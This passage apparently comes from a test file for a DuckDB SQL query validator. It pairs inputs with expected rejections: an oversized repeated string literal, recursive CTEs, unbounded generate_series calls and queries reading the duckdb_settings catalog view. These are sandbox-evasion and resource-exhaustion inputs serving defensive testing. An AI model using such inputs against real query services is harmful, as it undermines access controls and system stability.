lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel '

#### CTE: recursive CTE named like a catalog view, its body reading only itself => WITH RECURSIVE may not be used
WITH RECURSIVE duckdb_settings AS (SELECT 1 AS x UNION ALL SELECT x + 1 FROM duckdb_settings WHERE x < 3) SELECT * FROM duckdb_settings

#### CTE: recursive CTE with an innocent name => WITH RECURSIVE may not be used
WITH RECURSIVE days(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM days WHERE n < 6) SELECT n FROM days

#### functions: generate_series as a scalar builds a list of any size => function generate_series is not on the list
SELECT unnest(generate_series(DATE '2025-01-01', DATE '2025-12-01', INTERVAL 1 MONTH)) AS month FROM orders

#### catalog: FROM-first reading a catalog view => table 'duckdb_settings' is not one of the allowed tables
FROM duckdb_settings SELECT name, value
